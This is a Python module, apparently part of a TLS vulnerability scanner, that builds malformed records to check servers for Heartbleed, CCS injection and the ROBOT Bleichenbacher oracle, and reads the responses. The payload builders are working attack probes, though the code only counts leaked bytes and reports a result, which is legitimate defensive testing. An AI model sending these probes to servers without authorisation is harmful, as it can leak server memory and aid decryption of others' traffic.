"""The deliberately malformed records of the attack checks, and how to read the answers (pure).

Each check sends its records after the server's first flight (ServerHelloDone,
RFC 5246 §7.3) of a ClientHello offering one suite; :class:`AfterFlight`
reads what comes back: the first record (its type and size only: the bytes
of a leaking answer are counted, never kept), an alert, or a close.

- Heartbleed, CVE-2014-0160: a HeartbeatRequest whose payload_length (16384)
  exceeds the payload sent (RFC 6520 §4: such a message MUST be discarded
  silently). A vulnerable server echoes 16384 bytes of its memory; an empty
  ClientKeyExchange follows, so a patched server answers with an alert at once
  instead of leaving us to wait.
- CCS injection, CVE-2014-0224: a ChangeCipherSpec before any key exchange
  (RFC 5246 §7.1 allows it only after). A patched OpenSSL answers
  unexpected_message; a vulnerable one takes it and fails the second one
  with bad_record_mac or decryption_failed.
- ROBOT (Böck, Somorovsky, Young, USENIX Security 2018): five
  ClientKeyExchanges, RSA-encrypted with the server's key, each followed by
  ChangeCipherSpec and a Finished: one well-formed PKCS#1 v1.5 premaster
  secret (RFC 5246 §7.4.7.1) and four malformed ones. A server whose answers
  differ is a Bleichenbacher oracle.
"""

from __future__ import annotations

import os

from ...frozen import frozen
from ..records import ALERT, CHANGE_CIPHER_SPEC, HANDSHAKE, RecordFramer
from ..registry import alert_name

HEARTBEAT_RECORD = 24
CLIENT_KEY_EXCHANGE = 16
#: RFC 6520 §4: the payload length the request claims, and what it really carries.
CLAIMED_PAYLOAD, SENT_PAYLOAD, PADDING = 0x4000, 1, 16


def record(content_type: int, version: int, body: bytes) -> bytes:
    return bytes([content_type]) + version.to_bytes(2, "big") + len(body).to_bytes(2, "big") + body


def heartbleed_payload(version: int) -> bytes:
    """An over-long HeartbeatRequest, then an empty ClientKeyExchange (to provoke a prompt alert)."""
    heartbeat = bytes([1]) + CLAIMED_PAYLOAD.to_bytes(2, "big") + b"\x01" * SENT_PAYLOAD + os.urandom(PADDING)
    return (record(HEARTBEAT_RECORD, version, heartbeat)
            + record(HANDSHAKE, version, bytes([CLIENT_KEY_EXCHANGE, 0, 0, 0])))


def ccs_payload(version: int) -> bytes:
    """Two early ChangeCipherSpec records (RFC 5246 §7.1)."""
    return record(CHANGE_CIPHER_SPEC, version, b"\x01") * 2


#: ROBOT's premaster secret variants (the paper's §3): name -> description.
ROBOT_VARIANTS = ("well-formed", "wrong first bytes", "0x00 at a wrong position", "no 0x00 separator",
                  "wrong version in the premaster secret")


def robot_messages(modulus: int, exponent: int, version: int) -> list[bytes]:
    """One ClientKeyExchange + ChangeCipherSpec + Finished per :data:`ROBOT_VARIANTS`.

    Plain RSA (m^e mod n) of PKCS#1 v1.5 blocks ``00 02 PS 00 PMS``
    (RFC 8017 §7.2.1), PMS = client_version(2) + 46 random bytes.
    """
    k = (modulus.bit_length() + 7) // 8
    pms = version.to_bytes(2, "big") + os.urandom(46)
    pad_len = k - 3 - len(pms)
    pad = bytes(b % 255 + 1 for b in os.urandom(pad_len))          # non-zero padding
    blocks = [
        b"\x00\x02" + pad + b"\x00" + pms,
        b"\x41\x17" + pad + b"\x00" + pms,
        b"\x00\x02" + pad[:-10] + b"\x00" + pad[-9:] + b"\x11" + pms,  # separator 10 bytes early
        b"\x00\x02" + pad + b"\x11" + pms,                              # no separator at all
        b"\x00\x02" + pad + b"\x00" + b"\x02\x02" + pms[2:],
    ]
    out = []
    for block in blocks:
        cipher = pow(int.from_bytes(block, "big"), exponent, modulus).to_bytes(k, "big")
        body = len(cipher).to_bytes(2, "big") + cipher if version >= 0x0301 else cipher
        cke = bytes([CLIENT_KEY_EXCHANGE]) + len(body).to_bytes(3, "big") + body
        out.append(record(HANDSHAKE, version, cke) + record(CHANGE_CIPHER_SPEC, version, b"\x01")
                   + record(HANDSHAKE, version, os.urandom(48)))   # a Finished nobody can decrypt
    return out


@frozen
class Reaction:
    """The server's first answer to our records after its first flight."""

    kind: str                 #: "record", "alert", "closed", "silent"
    content_type: int | None = None
    length: int = 0           #: body size of the first record (its bytes are not kept)
    alert: str | None = None

    def __str__(self) -> str:
        if self.kind == "alert":
            return f"alert {self.alert}"
        if self.kind == "record":
            return f"record type {self.content_type} of {self.length} bytes"
        return {"closed": "connection closed", "silent": "no answer in time"}[self.kind]


class AfterFlight:
    """Reads the records that follow our payload; ``reaction`` once the first complete one is in."""

    def __init__(self) -> None:
        self._framer = RecordFramer()
        self.reaction: Reaction | None = None

    def feed(self, data: bytes) -> None:
        if self.reaction is not None:
            return
        try:
            records = self._framer.feed(data)
        except ValueError:
            self.reaction = Reaction("record", None, len(data))
            return
        for rec in records:
            if rec.content_type == ALERT and len(rec.body) == 2:
                self.reaction = Reaction("alert", ALERT, 2, alert_name(rec.body[1]))
            else:
                self.reaction = Reaction("record", rec.content_type, len(rec.body))
            self._framer.take_buffered()
            return

    def end(self, kind: str) -> Reaction:
        return self.reaction or Reaction(kind)


def heartbleed_vulnerable(reaction: Reaction) -> bool:
    """A heartbeat answer longer than what we sent carries the server's memory (CVE-2014-0160)."""
    return (reaction.kind == "record" and reaction.content_type == HEARTBEAT_RECORD
            and reaction.length > 3 + SENT_PAYLOAD + PADDING)


def ccs_vulnerable(reaction: Reaction) -> bool:
    """The early CCS was taken: the next record failed decryption (CVE-2014-0224)."""
    return reaction.kind == "alert" and reaction.alert in ("bad_record_mac", "decryption_failed")


def robot_oracle(reactions: list[Reaction]) -> bool:
    """Distinct answers to the well-formed and the malformed premaster secrets: an oracle."""
    return len({str(r) for r in reactions}) > 1
